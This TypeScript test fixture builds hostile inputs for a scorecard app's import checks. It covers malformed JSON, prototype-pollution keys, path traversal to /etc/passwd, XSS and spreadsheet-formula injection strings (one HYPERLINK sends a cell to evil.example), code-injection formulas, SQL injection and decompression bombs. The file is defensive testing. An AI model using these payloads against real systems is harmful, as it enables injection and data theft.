/** Files, cells and links as nobody should send them. Each says how it comes in; what must happen is in the test. */
import { deflateSync, zipSync } from 'fflate';
import { DICTIONARY } from '../../../../../../src/domain/scorecard/exchange/link/dictionary.ts';
import { checksum } from '../../../../../../src/domain/scorecard/exchange/link/packing.ts';
import type { Scorecard } from '../../../../../../src/domain/scorecard/model.ts';
import { filledCard } from '../filled-card.ts';

export const card = filledCard();
const utf8 = (text: string) => new TextEncoder().encode(text);

/** A card as plain data, so that a case can break any part of it. */
type Loose = Record<string, unknown>;
const plain = () => JSON.parse(JSON.stringify(card)) as Loose;

export const fileOf = (data: unknown) => JSON.stringify({ format: 'meshready-scorecard', schema: 1, card: data });

/** The card with something else at a place such as "criteria.0.weight". */
function broken(path: string, value: unknown): Loose {
  const data = plain();
  const steps = path.split('.');
  const last = steps.pop() ?? '';
  const holder = steps.reduce<Loose>((at, step) => at[step] as Loose, data);
  Object.defineProperty(holder, last, { value, enumerable: true, configurable: true, writable: true });
  return data;
}

export type Hostile = readonly [name: string, content: string];
const from = <T>(list: readonly T[], make: (one: T, i: number) => Hostile): Hostile[] => list.map(make);

/** Numbers as JSON cannot say them, too large, or of another type. */
const WRONG_NUMBERS = ['"5"', 'null', 'true', '[]', '{}', '1e16', '-1e16', '1e999', '"NaN"', '"Infinity"', '"0x10"'];
const NUMBER_PLACES = [
  'finance.discountAnnual',
  'criteria.4.scale.floor',
  'observations.3.value.likely',
  'drivers.0.estimate.high',
  'rule.minScore',
  'phases.1.timeboxWeeks',
  'seed',
];
const MARK = 98765;
const wrongNumbers = NUMBER_PLACES.flatMap((place) =>
  from(WRONG_NUMBERS, (text) => [`${text} at ${place}`, fileOf(broken(place, MARK)).replace(String(MARK), text)]),
);

const WRONG_SHAPES: readonly (readonly [string, unknown])[] = [
  ['criteria', null],
  ['criteria', {}],
  ['criteria', 'x'],
  ['criteria', [[]]],
  ['criteria', [null]],
  ['criteria.0', 5],
  ['criteria.0.id', ''],
  ['criteria.0.id', '../../etc/passwd'],
  ['criteria.0.id', 'a b'],
  ['criteria.0.id', '<b>'],
  ['criteria.0.id', 'x'.repeat(65)],
  ['criteria.0.id', 'p99-added'],
  ['criteria.0.kind', 'admin'],
  ['criteria.0.weight', -1],
  ['criteria.0.gate', null],
  ['criteria.0.gate.value', [5, 1]],
  ['criteria.0.metric.direction', 'sideways'],
  ['criteria.4.name', ''],
  ['criteria.4.name', 'x'.repeat(301)],
  ['criteria.4.name', { toString: 'x' }],
  ['criteria.4.why', 'x'.repeat(8001)],
  ['criteria.4.scale', { floor: 1, target: 1 }],
  ['criteria.5.scale.stretch', 20],
  ['criteria.4.questions', ['<script>']],
  ['criteria.8.money.formula', 'x'.repeat(501)],
  ['observations', [1]],
  ['observations.3.criterion', 'nowhere'],
  ['observations.3.option', 'nowhere'],
  ['observations.3.phase', 'nowhere'],
  ['observations.3.status', 'invented'],
  ['observations.3.value', { low: 3, likely: 2, high: 1, basis: 'measured' }],
  ['observations.3.value', undefined],
  ['observations.3.evidence', [{ grade: 'Z' }]],
  ['observations.3.evidence', [{ grade: 'A', url: 'javascript:alert(1)' }]],
  ['observations.3.evidence', [{ grade: 'A', url: 'data:text/html,x' }]],
  ['observations.3.evidence', [{ grade: 'A', url: 'file:///etc/passwd' }]],
  ['observations.3.evidence', [{ grade: 'A', url: 'https://' }]],
  ['observations.3.from', '2026-13-40'],
  ['observations.3.from', 'yesterday'],
  ['observations.18.waiver.until', 'for ever'],
  ['drivers.0.id', '1st'],
  ['drivers.0.id', 'a-b'],
  ['drivers.0.id', 'constructor'],
  ['options', []],
  ['options', [{ id: 'mesh', name: 'x' }]],
  ['proposed', 'nothing'],
  ['proposed', 'nowhere'],
  ['currentPhase', 'nowhere'],
  ['phases.1.exit', [{ timeboxExceeded: false }]],
  ['phases.1.success.0.criterion', 'nowhere'],
  ['finance.currency', 'usd'],
  ['finance.currency', '$'],
  ['finance.horizonMonths', 1e9],
  ['rule.wording', 'threaten'],
  ['status', 'root'],
  ['people', []],
  ['people.consulted', 'everybody'],
  ['template', { id: 'x' }],
  ['milestones', [{ id: 'm', name: 'x', at: 'once', card: {} }]],
  ['milestones', 'x'],
  ['seed', 0.5],
  ['seed', 2 ** 32],
  ['rev', -1],
  ['schema', 0],
  ['id', null],
  ['title', ' '],
];
const wrongShapes = from(WRONG_SHAPES, ([place, value], i) => [`shape ${i} at ${place}`, fileOf(broken(place, value))]);

/** Names of what every object has, as keys and as ids. */
const PROTOTYPE_NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__'];
const prototypeKeys = PROTOTYPE_NAMES.flatMap((name) =>
  from(['', 'criteria.4.', 'finance.', 'rule.', 'observations.3.value.'], (place) => [
    `key ${name} in ${place || 'the card'}`,
    fileOf(broken(`${place}${name}`, { polluted: 1, isAdmin: true })),
  ]),
);
const prototypeIds = from(PROTOTYPE_NAMES, (name) => [
  `criterion called ${name}`,
  fileOf(broken('criteria.4.id', name)),
]);

const tooMany = (place: string, count: number, make: (i: number) => unknown): Hostile => [
  `${count} ${place}`,
  fileOf(
    broken(
      place,
      Array.from({ length: count }, (_, i) => make(i)),
    ),
  ),
];
const whole = fileOf(plain());
const deep = (open: string, close: string) =>
  fileOf(0).replace('"card":0', `"card":${open.repeat(1e5)}1${close.repeat(1e5)}`);

/** Text that must be refused as a JSON file. */
export const REFUSED_JSON: readonly Hostile[] = [
  ...wrongNumbers,
  ...wrongShapes,
  ...prototypeKeys,
  ...prototypeIds,
  tooMany('criteria', 501, (i) => ({ ...card.criteria[4], id: `c${i}` })),
  tooMany('observations', 6001, () => card.observations[3]),
  tooMany('options', 13, (i) => ({ id: `o${i}`, name: 'x' })),
  tooMany('phases', 25, (i) => ({ ...card.phases[0], id: `p${i}` })),
  ['nested arrays, 100,000 deep', deep('[', ']')],
  ['nested objects, 100,000 deep', deep('{"a":', '}')],
  ['nested arrays that never end', '['.repeat(1e5)],
  ['more than 10 MB', `"${'x'.repeat(10_000_001)}"`],
  ['nothing', ''],
  ['blanks', ' \n\t'],
  ['null', 'null'],
  ['a number', '42'],
  ['a text', '"card"'],
  ['a list', '[{"schema":1}]'],
  ['the card without its file', JSON.stringify(plain())],
  ['another program', '{"format":"excalidraw","version":2}'],
  ['a format that is an object', '{"format":{"toString":"meshready-scorecard"},"schema":1,"card":{}}'],
  ['a version as text', fileOf(plain()).replace('"schema":1', '"schema":"1"')],
  ['a version that is no number', fileOf(plain()).replace('"schema":1', '"schema":NaN')],
  ['YAML', 'format: meshready-scorecard\nschema: 1\n'],
  ['a comment', `// hello\n${whole}`],
  ['a trailing comma', `${whole.slice(0, -1)},}`],
  ['single quotes', whole.replaceAll('"', "'")],
  ['JavaScript', 'alert(1)'],
  ['a web page', '<html><script>alert(1)</script></html>'],
  ['two files in one', whole + whole],
  ...from([0.1, 0.3, 0.5, 0.7, 0.9, 0.99, 0.9999], (part) => [
    `the first ${part} of a file`,
    whole.slice(0, Math.floor(whole.length * part)),
  ]),
];

/** Formulas that a file may bring: the card opens, and nothing of them is run. */
export const FORMULAS = [
  ['a loop through itself', 'value * loop'],
  ['a name that nothing has', 'unknown_name * 2'],
  ['constructor', 'constructor'],
  ['a constructor call', 'constructor.constructor("alert(1)")()'],
  ['a prototype', '__proto__'],
  ['this', 'this'],
  ['a global', 'globalThis.process.exit()'],
  ['import', 'import("fs")'],
  ['a template', '`${process.env}`'],
  ['an arrow', '(() => { while (true) {} })()'],
  ['a statement', 'value; alert(1)'],
  ['an assignment', 'value = 5'],
  ['an index', 'value["constructor"]'],
  ['a spreadsheet command', "=cmd|' /C calc'!A0"],
  ['a spreadsheet link', '=HYPERLINK("http://evil.example")'],
  ['a power', '9**9**9**9'],
  ['a division by zero', 'value / 0'],
  ['a product beyond all numbers', '1e308 * 1e308'],
  ['brackets, 240 deep', `${'('.repeat(240)}value${')'.repeat(240)}`],
  ['brackets that never close', '('.repeat(400)],
  ['signs, 400 of them', `${'-'.repeat(400)}value`],
  ['calls inside calls', `${'max(value,'.repeat(45)}1${')'.repeat(45)}`],
  ['products inside products', `${'(value-now)*'.repeat(38)}1`],
  ['a text', '"5"'],
  ['emoji', '😀 + 1'],
  ['full-width digits', '１ + １'],
] as const;

/** Words for every field that people fill. */
export const WORDS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '<svg/onload=alert(1)>',
  '<style>*{display:none}</style>',
  '</td></tr></table><h1>out</h1>',
  '&lt;b&gt;',
  'javascript:alert(1)',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  '| cell | out |\n| --- | --- |',
  '```\ncode\n```',
  '# heading\n## another',
  '=1+1',
  '+1+cmd|calc',
  '-2+3+cmd',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  "'=1+1",
  '=HYPERLINK("https://evil.example?"&A1,"click")',
  'a,"b";c\td\r\n=1+1',
  '\u0000\u0007\u001b[31m',
  '\ud800 alone',
  '\u202etxt.exe',
  '__proto__',
  '_x0041_',
  ']]><!--',
  '${7*7} {{7*7}} <%= 7 %>',
  "Robert'); DROP TABLE cards;--",
];

/** The card with these words wherever a person can type. */
export function filledWith(words: string): Scorecard {
  const name = words.trim() === '' ? 'x' : words;
  return {
    ...card,
    title: name,
    question: words,
    people: { decider: words, consulted: [words], informed: [words] },
    drivers: card.drivers.map((d) => ({ ...d, name, unit: words.slice(0, 60) })),
    options: card.options.map((o) => ({ ...o, name, note: words })),
    criteria: card.criteria.map((c) => ({
      ...c,
      name,
      why: words,
      owner: words,
      group: words,
      evidenceAsked: words,
      metric: { ...c.metric, name: words, unit: words.slice(0, 60), window: words },
    })),
    observations: card.observations.map((o) => ({ ...o, by: words, evidence: [{ text: words, grade: 'C' as const }] })),
    phases: card.phases.map((p) => ({ ...p, name, scope: words, exitPlan: words })),
    decision: { outcome: words, by: words, on: '2026-11-24', because: words, revisit: words },
  };
}

/** Pasted tables and CSV files. Nothing may be thrown; every cell that is not understood is named. */
export const TABLES: readonly Hostile[] = [
  ['prototype names as headings', '__proto__,constructor,Criterion,Now,Target\n1,2,A,3,4'],
  ['prototype names as rows', 'Criterion,Now,Target\n__proto__,1,2\nconstructor,1,2\ntoString,1,2'],
  ['prototype names as kinds', 'Kind,Criterion\n__proto__,A\nconstructor,B\ntoString,C'],
  ['prototype names as statuses', 'Criterion,Status,Direction,Condition\nA,constructor,__proto__,toString'],
  ['numbers too large', 'Criterion,Now,Target\nA,1e400,9999999999999999999'],
  ['no numbers', 'Criterion,Now,Target\nA,NaN,Infinity\nB,-Infinity,undefined'],
  ['formulas as numbers', 'Criterion,Now,Target\nA,=1+1,@SUM(A1)'],
  ['a quotation that never ends', 'Criterion,Now\n"A,1\nB,2\nC,3'],
  ['quotations everywhere', '"""""",""",\n"a""b"c,"'],
  ['a single quotation mark', '"'],
  ['only separators', ',,,\n;;;\n\t\t\t'],
  ['lines of very different lengths', 'Criterion,Now,Target\nA\nB,1,2,3,4,5,6,7,8,9\n,,,,,,,,,,,,,,,,,x'],
  ['headings twice', 'Criterion,Now,Now,Target,Target\nA,1,2,3,4'],
  ['headings alone', 'Kind,Criterion,Unit'],
  ['a very long cell', `Criterion,Now,Target\n${'x'.repeat(100_000)},1,2`],
  ['a very long number', `Criterion,Now,Target\nA,${'1'.repeat(100_000)},${'1,'.repeat(50_000)}`],
  ['very many blanks', `Criterion\tNow\tTarget\nA\t${' '.repeat(100_000)}\t${"'".repeat(100_000)}=1`],
  ['very many columns', `Criterion,${'x,'.repeat(20_000)}\nA,${'1,'.repeat(20_000)}`],
  ['very many rows', `Criterion,Now,Target\n${'A,1,2\n'.repeat(50_000)}`],
  ['more than 10 MB', `Criterion\n${'x'.repeat(10_000_001)}`],
  ['binary', String.fromCharCode(...Array.from({ length: 256 }, (_, i) => i))],
  ['half surrogates', '\ud800,\udc00\n\udfff,1'],
  ['only line ends', '\r\n\r\n\n\r\r'],
  ['HTML', '<table><tr><td>A</td><td>1</td></tr></table>'],
  ['JSON', '{"criteria":[{"name":"A"}]}'],
  ['dates as numbers', 'Criterion,Now,Target\nA,2026-11-24,24.11.2026'],
  ['ranges as numbers', 'Criterion,Now,Target\nA,4-5,~6'],
  ['negative weights', 'Criterion,Weight\nA,-1\nB,(5)'],
  ['the same number twice', 'Criterion,Now,Target\nA,5,5'],
  ['a range upside down', 'Criterion,Measured,Low,High\nA,5,9,1'],
  ['conditions of nonsense', 'Criterion,Condition\nA,≤ many\nB,between 5 and 1\nC,>= <= 5'],
  ['control characters', 'Criterion\u0000,Now\u0007\nA\u001b[31m,1'],
];

const packed = (bytes: Uint8Array) => Buffer.from(bytes).toString('base64url');
const deflated = (text: string) => packed(deflateSync(utf8(text), { level: 9, dictionary: utf8(DICTIONARY) }));
/** A link whose length and checksum are right, whatever it holds. */
export const sealed = (form: string, content: string) =>
  `card.1${form}.${content.length}.${checksum(`1${form}${content}`)}.${content}`;

/** Links that no honest program wrote, well sealed: the checksum does not stop them. */
export const LINKS: readonly Hostile[] = [
  ['nothing inside', sealed('f', '')],
  ['noise', sealed('f', 'AAAAAAAA')],
  ['other noise', sealed('n', '_-_-_-_-_-')],
  ['no base64url', sealed('f', '????')],
  ['deflated nothing', sealed('f', deflated(''))],
  ['a bomb', sealed('f', deflated('0'.repeat(100_000_000)))],
  ['a bomb of separators', sealed('f', deflated('\u001f'.repeat(20_000_000)))],
  ['a bomb of numbers', sealed('n', deflated(`\u001f${'0,'.repeat(5_000_000)}\u001fleadership`))],
  ['a list of a million entries', sealed('f', deflated(`~1000000~${'0'.repeat(100)}\u001f1,2,3\u001fa\u001fb`))],
  ['numbers that are none', sealed('f', deflated('0000000000\u001fNaN,Infinity,1e999,\u001fa\u001fb\u001fc'))],
  ['a mark that never ends', sealed('f', deflated('~99999\u001f1\u001fa'))],
  ['negative marks', sealed('f', deflated('~-5~~-5~\u001f1\u001fa'))],
  ['JSON inside', sealed('f', deflated(JSON.stringify({ schema: 1 })))],
  ['invalid UTF-8', sealed('f', packed(deflateSync(Uint8Array.from([0xff, 0xfe, 0x80]))))],
  ['a ZIP inside', sealed('f', packed(zipSync({ 'a.json': utf8('{}') })))],
  ['a template called __proto__', sealed('n', deflated('\u001f\u001f__proto__\u001f1\u001fx'))],
  ['a template called constructor', sealed('n', deflated('\u001f\u001fconstructor\u001f1\u001fx'))],
  ['a path as a template', sealed('n', deflated('\u001f\u001f../../secret\u001f1\u001fx'))],
];

/** Files by their bytes. */
export const BYTES: readonly (readonly [name: string, bytes: Uint8Array, fileName: string])[] = [
  ['a ZIP that is called JSON', zipSync({ 'a.json': utf8('{}') }), 'card.json'],
  ['a workbook', zipSync({ 'xl/workbook.xml': utf8('<x/>') }), 'card.xlsx'],
  ['a PDF', utf8('%PDF-1.7\n%âãÏÓ'), 'card.json'],
  ['an old office file', Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'card.csv'],
  ['gzip', Uint8Array.from([0x1f, 0x8b, 8, 0, 0]), 'card.json'],
  ['a picture', Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), 'card.json'],
  ['a photograph', Uint8Array.from([0xff, 0xd8, 0xff, 0xe0]), 'card.csv'],
  ['rich text', utf8('{\\rtf1\\ansi hello}'), 'card.json'],
  ['Latin-1', Uint8Array.from([0x4b, 0x72, 0x69, 0x74, 0xe9, 0x72, 0x69, 0x75, 0x6d]), 'card.csv'],
  ['Shift JIS', Uint8Array.from([0x93, 0xfa, 0x96, 0x7b, 0x8c, 0xea]), 'card.csv'],
  ['half a UTF-8 character', Uint8Array.from([0x61, 0xe2, 0x82]), 'card.csv'],
  ['half a UTF-16 character', Uint8Array.from([0xff, 0xfe, 0x61, 0, 0x62]), 'card.csv'],
  ['a UTF-16 surrogate alone', Uint8Array.from([0xff, 0xfe, 0, 0xd8, 0x61, 0]), 'card.csv'],
  ['UTF-16 without its mark', new Uint8Array(Buffer.from('Criterion,Now', 'utf16le')), 'card.csv'],
  ['UTF-32', Uint8Array.from([0xff, 0xfe, 0, 0, 0x61, 0, 0, 0]), 'card.csv'],
  ['zeros', new Uint8Array(1000), 'card.csv'],
  ['nothing', new Uint8Array(0), 'card.json'],
  ['11 MB', new Uint8Array(11_000_000).fill(0x20), 'card.json'],
  ['a web page', utf8('  <!doctype html><script>alert(1)</script>'), 'card.html'],
  ['XML', utf8('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]>'), 'card.xml'],
];
